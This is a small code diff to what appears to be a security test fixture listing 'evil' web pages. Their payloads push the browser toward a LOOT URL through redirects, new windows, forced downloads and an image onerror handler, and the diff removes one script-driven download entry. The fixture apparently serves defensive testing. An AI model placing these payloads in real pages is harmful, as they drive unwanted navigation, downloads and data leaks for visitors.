@@ -83,9 +83,6 @@ const PAGES: Readonly<Record<string, EvilPage>> = {
   'a script that goes there': script(`location.href = '${LOOT}'`),
   'a new window': script(`window.open('${LOOT}')`),
   'a download': html(`<a download href="${LOOT}">x</a><script>document.links[0].click()</script>`),
-  'a download that a script begins': script(
-    `const a = document.createElement('a'); a.download = 'x.html'; a.href = '${LOOT}'; document.body.append(a); a.click()`,
-  ),
   'an event of an element': html(`<img src="data:," onerror="${GO}">`),
   SVG: {
     type: 'image/svg+xml',
